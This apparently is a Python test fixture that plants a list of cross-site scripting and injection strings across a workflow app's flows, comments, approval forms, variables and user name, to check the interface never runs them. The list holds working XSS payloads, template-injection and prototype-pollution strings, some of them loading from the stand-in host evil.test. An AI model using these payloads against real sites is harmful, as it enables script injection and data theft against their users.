"""Text that would like to be a script, stored wherever a project takes text."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from sqlalchemy import update
from sqlmodel import col

from activities.auth.models import User
from tests.editor.people import Team
from tests.editor.seed import Seeding

MARK = "__pwned"
"""Every text sets this of the window, so that it is also what is looked for on a page."""
SHORT = "<img src=//evil.test onerror=window.__pwned=1>"
TEXTS = [
    "<script>window.__pwned=1</script>",
    "</script><script src=//evil.test/__pwned.js></script>",
    '<script type="module">import "//evil.test/__pwned.js"</script>',
    SHORT,
    "<img src=x onerror=window.__pwned=1>",
    "\"'><img src=x onerror='window.__pwned=1'>",
    "' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1",
    "<svg onload=window.__pwned=1>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext><style><img src onerror=window.__pwned=1></style></mtext></math>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "<iframe src='javascript:parent.__pwned=1'></iframe>",
    "<object data='data:text/html,<script>top.__pwned=1</script>'></object>",
    "<a href='javascript:window.__pwned=1'>click</a>",
    "[click](javascript:window.__pwned=1)",
    "![look](http://evil.test/__pwned.png)",
    "javascript:window.__pwned=1",
    "data:text/html,<script>opener.__pwned=1</script>",
    "http://evil.test/__pwned",
    "<style>*{background:url(//evil.test/__pwned)}</style>",
    "<link rel=stylesheet href=//evil.test/__pwned.css>",
    "<base href=//evil.test/__pwned/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/__pwned'>",
    "<body onload=window.__pwned=1><details open ontoggle=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<form action=//evil.test/__pwned><button>send",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1} #{window.__pwned=1} <%= window.__pwned=1 %>",
    "\u202e<img src=x onerror=window.__pwned=1>\u202c\u200b\u2066\ufeff",
    "<scr\u200bipt>window.__pwned=1</scr\u200bipt>",
    '{"__proto__": {"innerHTML": "<img src=x onerror=window.__pwned=1>"}}',
]
ALL = "\n".join(TEXTS)
PLAIN = [one for one in TEXTS if "{{" not in one]
"""Those that are no formula: what stands between braces in a config is read by the checker."""
SAID = "\n".join(PLAIN)
FILE = {"$file": "00000000-0000-0000-0000-000000000001", "name": SHORT, "type": "text/html"}
GIVEN = {"texts": TEXTS, "file": {**FILE, "size": 3}, **{one: one for one in TEXTS}}
SAYING = "{{ input.texts | join(' ') }}"
CODE = "def main(input):\n    raise ValueError(input['said'])\n"


@dataclass
class Hostile:
    """Where the texts are."""

    flow: str
    run: str
    waiting: str
    link: str


def failing() -> dict[str, Any]:
    """A flow whose every part is called by a text, that writes them down and fails with them."""
    steps = [
        {"id": f"s{at}", "type": "data.set", "name": one[:200], "notes": one}
        | {"config": {"values": {"said": PLAIN[at % len(PLAIN)]}}}
        for at, one in enumerate(TEXTS)
    ]
    notes = {
        f"note:n{at}": {"x": 260 * at, "y": 900, "width": 240, "height": 120, "text": one}
        for at, one in enumerate(TEXTS)
    }
    places = {f"s{at}": {"x": 280 * (at % 6), "y": 120 * (at // 6)} for at in range(len(TEXTS))}
    code = {"code": CODE, "input": {"said": SAYING}}
    end: list[dict[str, Any]] = [  # Any: parts of a document, JSON
        {"id": "tell", "type": "log", "name": SHORT, "config": {"message": SAYING}},
        {"id": "fail", "type": "code.python", "name": SHORT, "config": code},
    ]
    return {
        "schema": "nextscript.flow/1",
        "name": SHORT,
        "description": ALL,
        "nodes": [{"id": "start", "type": "trigger.manual", "name": SHORT}, *steps, *end],
        "edges": [
            {"from": "start", "to": "s0"},
            {"from": "s0", "to": "tell"},
            {"from": "tell", "to": "fail"},
        ],
        "layout": {**places, **notes},
    }


def asking() -> dict[str, Any]:
    """A flow that asks somebody with the texts, in every part of a question."""
    fields: dict[str, Any] = {
        f"f{at}": {"type": "string", "title": one} for at, one in enumerate(TEXTS)
    }
    fields["pick"] = {"type": "string", "title": "Pick", "enum": TEXTS}
    shape = {"type": "object", "title": SHORT, "description": ALL, "properties": fields}
    ask = {
        "to": [SHORT, "role:owner"],
        "title": "{{ input.texts[3] }}",
        "message": SAYING,
        "facts": {**{one: one for one in PLAIN}, "all": "{{ input.texts }}"},
        "fields": shape,
    }
    return {
        "schema": "nextscript.flow/1",
        "name": f"Ask {SHORT}",
        "nodes": [
            {"id": "start", "type": "trigger.manual"},
            {"id": "ask", "type": "human.approval", "name": SHORT, "config": ask},
        ],
        "edges": [{"from": "start", "to": "ask"}],
        "layout": {"start": {"x": 0, "y": 0}, "ask": {"x": 280, "y": 0}},
    }


async def plant(team: Team) -> Hostile:
    """Put the texts everywhere, through the API; a person's name is set in the database."""
    seeding = Seeding(team.owner.http, str(team.project), team.project_key)
    flow = await _drawn(seeding)
    run = await seeding.run(flow, GIVEN, 20)
    failed = await seeding.call("GET", f"/v1/runs/{run}")
    assert MARK in failed["error"]["message"], failed["error"]
    waiting = await seeding.run(await seeding.publish(asking()), {"texts": TEXTS}, 0)
    await _around(seeding)
    async with team.sessions() as session, session.begin():
        await session.execute(
            update(User).where(col(User.email) == team.owner.email).values(name=SHORT)
        )
    return Hostile(flow, run, waiting, await seeding.link(waiting))


async def _drawn(seeding: Seeding) -> str:
    body = {"name": SHORT, "document": failing()}
    flow = str((await seeding.call("POST", f"{seeding.project}/flows", body))["id"])
    at = f"/v1/flows/{flow}"
    about = {"description": ALL, "tags": [one[:63].strip() for one in TEXTS[:40]]}
    await seeding.call("PATCH", at, about)
    await seeding.call("POST", f"{at}/versions", {"notes": ALL[:2000]})
    remark = await seeding.call("POST", f"{at}/comments", {"text": ALL})
    for one in (SHORT, TEXTS[0]):
        await seeding.call("POST", f"{at}/comments", {"text": one, "parent_id": remark["id"]})
    await seeding.call("POST", f"{at}/comments", {"text": ALL, "node": "fail"})
    for node in ("tell", "s1"):
        await seeding.call("PUT", f"{at}/draft/pins/{node}", {"output": GIVEN})
    return flow


async def _around(seeding: Seeding) -> None:
    connection = {
        "key": "hostile",
        "name": SHORT,
        "kind": "http",
        "fields": {"base_url": "https://hostile.example.com"},
        "secrets": {},
    }
    await seeding.call("POST", f"{seeding.project}/connections", connection)
    await seeding.call("PUT", f"{seeding.project}/variables/hostile", {"value": TEXTS})
    await seeding.call("PUT", f"{seeding.project}/variables/one", {"value": SHORT})
    await seeding.call("POST", "/v1/api-keys", {"name": SHORT, "scopes": ["flow.read"]})
    await seeding.call("PATCH", seeding.project, {"name": SHORT})
